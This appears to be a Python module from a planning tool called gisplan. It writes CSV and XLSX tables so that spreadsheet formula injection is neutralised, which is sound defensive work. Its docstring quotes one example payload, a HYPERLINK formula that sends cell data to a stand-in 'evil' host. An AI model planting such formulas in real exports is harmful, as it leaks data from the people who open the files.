"""The one place where gisplan writes tables that a spreadsheet may open: CSV and XLSX, formula-safe.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (and tab or carriage return can smuggle one in), so a site name such as
``=HYPERLINK("http://evil/?"&A1)`` could leak data or run commands when a
planner opens the file (CSV injection, OWASP). :func:`neutralise` puts an
apostrophe before such text, which spreadsheets show as plain text; numbers are
written as numbers and never touched. XLSX text cells are also typed as strings,
never formulas.

Every tabular export goes through this module: the shortlist CSV and XLSX
(:mod:`gisplan.export`), the SECAP actions (:func:`gisplan.monitoring.write_secap`)
and the app's table downloads. ``tests/export/test_tabular_writers.py`` scans the
source for other writers (``to_csv``, ``to_excel``, ``csv.writer``, openpyxl
workbooks, download buttons) and fails when one does not come through here.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import IO, Any

import pandas as pd

#: First characters that make a spreadsheet read text as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: Control characters XLSX cannot hold (openpyxl refuses them).
_XLSX_ILLEGAL = str.maketrans({c: None for c in range(32) if chr(c) not in "\t\n\r"})


def neutralise(value: object) -> object:
    """``value`` with text that a spreadsheet would run as a formula made inert.

    Text starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a
    leading apostrophe; every other value is returned unchanged.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def spreadsheet_cell(value: object) -> object:
    """A spreadsheet cell: None for missing, ISO text for date-times (UTC), numbers as numbers, neutralised text."""
    if value is None or value is pd.NaT or value is pd.NA or (isinstance(value, float) and math.isnan(value)):
        return None
    if isinstance(value, pd.Timestamp):
        value = value.to_pydatetime()
    if isinstance(value, dt.datetime):
        if value.tzinfo is not None:
            value = value.astimezone(dt.UTC).replace(tzinfo=None)
        return value.isoformat(sep=" ", timespec="seconds")
    if isinstance(value, dt.date):
        return value.isoformat()
    if hasattr(value, "item"):  # numpy scalars
        value = value.item()
        if isinstance(value, float) and math.isnan(value):
            return None
    return neutralise(value)


def neutralised_rows(table: pd.DataFrame) -> Iterator[list[object]]:
    """The header and the rows of ``table`` as neutralised cells (the index is left out)."""
    yield [neutralise(str(c)) for c in table.columns]
    for values in table.itertuples(index=False, name=None):
        yield [spreadsheet_cell(v) for v in values]


def write_table_csv(table: pd.DataFrame, target: Path | IO[str]) -> None:
    """Write ``table`` as CSV to a path (UTF-8 with BOM, so spreadsheets read Czech letters) or a text handle."""
    if not isinstance(target, Path):
        out = csv.writer(target, quoting=csv.QUOTE_MINIMAL)
        out.writerows(["" if c is None else c for c in row] for row in neutralised_rows(table))
        return
    with target.open("w", encoding="utf-8-sig", newline="") as handle:
        write_table_csv(table, handle)


def table_csv_bytes(table: pd.DataFrame) -> bytes:
    """``table`` as formula-safe CSV bytes (UTF-8 with BOM), for a download."""
    buffer = io.StringIO(newline="")
    write_table_csv(table, buffer)
    return buffer.getvalue().encode("utf-8-sig")


def _sheet(book: Any, title: str, table: pd.DataFrame) -> None:
    """One sheet, streamed (openpyxl's write-only mode): text cells typed as strings, never formulas."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.utils import get_column_letter

    sheet = book.create_sheet(title=title[:31])
    sheet.freeze_panes = "A2"
    for col, name in enumerate(table.columns, start=1):
        sheet.column_dimensions[get_column_letter(col)].width = min(max(len(str(name)) + 2, 10), 40)
    for values in neutralised_rows(table):
        row: list[Any] = []
        for shown in values:
            if isinstance(shown, str):
                text = WriteOnlyCell(sheet, value=shown.translate(_XLSX_ILLEGAL))
                text.data_type = "s"  # a string, whatever it starts with
                row.append(text)
            else:
                row.append(shown)
        sheet.append(row)


def write_tables_xlsx(sheets: Mapping[str, pd.DataFrame], target: Path | IO[bytes]) -> None:
    """Write one sheet per table (name -> table, in order) as an XLSX workbook to a path or a binary handle."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    for title, table in sheets.items():
        _sheet(book, title, table)
    book.save(target)


def tables_xlsx_bytes(sheets: Mapping[str, pd.DataFrame]) -> bytes:
    """The tables as a formula-safe XLSX workbook, for a download."""
    buffer = io.BytesIO()
    write_tables_xlsx(sheets, buffer)
    return buffer.getvalue()


__all__ = [
    "FORMULA_TRIGGERS",
    "neutralise",
    "neutralised_rows",
    "spreadsheet_cell",
    "table_csv_bytes",
    "tables_xlsx_bytes",
    "write_table_csv",
    "write_tables_xlsx",
]
